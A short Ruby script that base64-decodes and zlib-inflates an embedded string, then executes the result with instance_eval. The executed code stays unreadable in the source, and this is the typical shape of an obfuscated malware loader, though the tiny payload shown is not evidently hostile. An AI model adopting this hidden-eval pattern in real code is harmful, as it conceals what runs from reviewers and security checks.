require 'base64'
require 'zlib'

BLOB = 'eJwrrk1NLUpVSM7PK0nNK1HIzy3ITUzOSU0uzs9JTS1RyEnNSy0pSi0GAJq/DGI='

def inflate(s)
  Zlib::Inflate.inflate(Base64.decode64(s))
end

code = inflate(BLOB)
Object.new.instance_eval(code)
